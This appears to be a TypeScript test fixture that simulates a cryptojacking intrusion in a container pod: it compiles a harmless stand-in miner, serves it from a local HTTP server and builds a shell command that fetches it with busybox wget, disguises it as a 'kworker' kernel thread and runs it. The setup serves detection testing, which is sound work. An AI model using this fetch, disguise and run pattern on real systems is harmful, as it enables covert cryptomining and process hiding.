import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, readFileSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';

const SOURCE = join(import.meta.dirname, '..', 'stand-in', 'miner.c');
const PROGRAM = join(import.meta.dirname, '..', '..', 'dist', 'demo', 'miner');

/** An address that has a right checksum and belongs to nobody: its keys are the hash of a sentence. */
export const WALLET =
  '4AwmvvA7m4STojViuhYor61PW2TBhfeDYYUGhyzfsTg6MsAMa8dk24j7BvVfNc6dh13kQnX25HzSrhAUxWcCA6vM5x5Ut2D';

/** Compiles the harmless stand-in for a miner, unless that was done. Answers its path. */
export function compileStandIn(): string {
  mkdirSync(join(PROGRAM, '..'), { recursive: true });
  const built = statSync(PROGRAM, { throwIfNoEntry: false });
  if (!built || built.mtimeMs < statSync(SOURCE).mtimeMs) {
    execFileSync('gcc', ['-static', '-O2', '-o', PROGRAM, SOURCE]);
  }
  return PROGRAM;
}

/** Where the attacker's files are fetched from: the miner, and the configuration that names its pool. */
export interface Depot {
  /** What someone who got into a pod runs there: fetch, name it like a kernel thread, start it. */
  readonly command: string[];
  close(): Promise<void>;
}

export async function openDepot(poolPort: number, folder: string): Promise<Depot> {
  const files: Record<string, Buffer> = {
    '/update': readFileSync(compileStandIn()),
    '/settings': Buffer.from(`127.0.0.1 ${poolPort} ${WALLET}\n`),
  };
  const server = createServer((request, response) => {
    const file = files[request.url ?? ''];
    response.writeHead(file ? 200 : 404).end(file);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as { port: number };
  const fetch = (path: string, to: string) => `busybox wget -q -O ${to} http://127.0.0.1:${port}${path}`;
  const script = [
    `cd ${folder}`,
    fetch('/update', 'kworker'),
    fetch('/settings', 'settings'),
    'chmod +x kworker',
    './kworker -c settings',
  ].join(' && ');
  return {
    command: ['sh', '-c', script],
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}
